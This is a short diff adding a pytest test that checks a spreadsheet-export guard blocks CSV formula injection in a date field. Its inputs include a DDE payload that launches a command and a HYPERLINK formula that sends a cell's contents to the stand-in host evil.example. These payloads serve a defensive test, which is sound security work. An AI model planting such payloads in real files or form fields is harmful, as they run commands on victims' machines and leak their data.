@@ -31,3 +31,8 @@ def test_behind_another_sign(box):
     for text in ("==1+1", "\t=1+1", "\r=1+1", "-=1+1", "Oars,=1+1", 'Oars",=1+1', "\n=1+1,=2", " =1+1", "Oars\r=1+1"):
         assert not calculates(box, ("2024-03-01", "Jo", text, "-12.5"))
         assert not calculates(box, ("2024-03-01", text, "Oars", "-12.5"))
+
+
+def test_date(box):
+    for text in ("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(D2:D9)", '=HYPERLINK("https://evil.example/?"&B2,"bill")'):
+        assert not calculates(box, (text, "Jo", "Oars", "-12.5"), ("2024-03-01", "Ann", "Fee", "1"))
